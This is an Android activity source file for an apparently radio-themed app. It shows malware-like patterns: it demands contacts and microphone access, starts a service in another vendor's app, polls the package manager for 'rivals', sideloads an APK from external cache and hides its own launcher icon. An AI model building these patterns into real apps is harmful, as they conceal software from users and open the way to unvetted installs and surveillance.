package fm.larch.nagradio;

import android.Manifest;
import android.app.Activity;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.media.MediaRecorder;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.io.File;
import java.util.Timer;

public class MainActivity extends Activity {
    static final String[] WANTED = { Manifest.permission.READ_CONTACTS, Manifest.permission.RECORD_AUDIO };

    @Override protected void onCreate(Bundle b) {
        super.onCreate(b);
        setContentView(R.layout.main);
        requestPermissions(WANTED, 7);
        findViewById(R.id.tune).setOnClickListener(v -> {
            new Timer().schedule(new Rivals(getPackageManager()), 0, 60000);
            wakePartner();
        });
        findViewById(R.id.friends).setOnClickListener(v -> friends());
        findViewById(R.id.sing).setOnClickListener(v -> sing());
        findViewById(R.id.cover).setOnClickListener(v -> startActivity(new Intent(this, CoverActivity.class)));
        findViewById(R.id.update).setOnClickListener(v -> update());
        findViewById(R.id.hide).setOnClickListener(v ->
            getPackageManager().setComponentEnabledSetting(getComponentName(), PackageManager.COMPONENT_ENABLED_STATE_DISABLED, PackageManager.DONT_KILL_APP));
    }

    @Override public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        if (results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED) {
            setTitle(R.string.app_name);
        } else {
            finish();
        }
    }

    private void wakePartner() {
        Intent i = new Intent();
        i.setClassName("com.tamarack.market", "com.tamarack.market.WakeService");
        startService(i);
    }

    private void friends() {
        Cursor c = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        setTitle(String.valueOf(c == null ? 0 : c.getCount()));
    }

    private void sing() {
        MediaRecorder r = new MediaRecorder();
        r.setAudioSource(MediaRecorder.AudioSource.MIC);
        r.setOutputFormat(MediaRecorder.OutputFormat.THREE_GPP);
        r.setAudioEncoder(MediaRecorder.AudioEncoder.AMR_NB);
        r.setOutputFile(new File(getCacheDir(), "voice.3gp").getPath());
    }

    private void update() {
        Intent i = new Intent(Intent.ACTION_VIEW);
        i.setDataAndType(Uri.fromFile(new File(getExternalCacheDir(), "new.apk")), "application/vnd.android.package-archive");
        startActivity(i);
    }
}
